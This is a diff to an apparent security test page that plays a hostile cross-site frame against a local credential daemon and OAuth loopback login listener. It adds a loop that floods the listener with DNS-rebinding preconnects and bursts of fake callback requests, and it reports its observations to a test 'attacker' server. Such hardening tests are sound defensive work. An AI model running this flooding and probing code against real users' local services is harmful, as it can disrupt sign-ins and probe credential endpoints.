@@ -3,7 +3,8 @@
 // an IMDS token, and complete, cancel or stall a pending login through its loopback listener.
 // Everything it observes (statuses, bodies, headers, errors, events, timings) is reported to the
 // attacker's server, whose test checks that none of it is a secret. The ports are handed to it
-// (a page would scan for them).
+// (a page would scan for them). Then the cross-site frame floods the login listener until the
+// attacker's server says stop, while the test signs in as the owner.
 'use strict';
 
 const query = new URLSearchParams(location.search);
@@ -368,6 +369,28 @@ async function attackLogin(base) {
   await Promise.all(stall);
 }
 
+/// Keeps the login listener busy (connections opened ahead under new names, bursts of requests)
+/// for as long as the attacker's server says so: the owner signs in meanwhile.
+async function keepStalling() {
+  const port = loginPort;
+  for (let round = 0; ; round++) {
+    const go = await fetch(`${reportTo}/keep-stalling`).then((r) => r.text(), () => 'no');
+    if (go !== 'yes') return round;
+    for (let i = 0; i < 8; i++) {
+      const link = document.createElement('link');
+      link.rel = 'preconnect';
+      link.href = `http://k${round}-${i}.rebind.test:${port}`;
+      document.head.append(link);
+    }
+    const burst = [];
+    for (let i = 0; i < 30; i++) {
+      const url = `http://127.0.0.1:${port}/oauth/callback?code=stall&state=stall-${i}`;
+      burst.push(fetch(url, { mode: 'no-cors' }).catch(() => {}));
+    }
+    await Promise.all(burst);
+  }
+}
+
 async function report(phase, extra = {}) {
   const body = JSON.stringify({ scenario, origin: location.origin, phase, ...extra });
   // text/plain and no-cors: no preflight, whichever origin this frame is.
@@ -391,6 +414,10 @@ window.addEventListener('error', (e) => {
     for (const base of credd) await attackCredd(base);
     for (const base of login) await attackLogin(base);
     await report('done', { results, ms: since(started) });
+    if (scenario === 'cross-site') {
+      const rounds = await keepStalling();
+      await report('stalled', { rounds });
+    }
   } catch (e) {
     await report('failed', { error: `${e}\n${e.stack}`, results });
   }
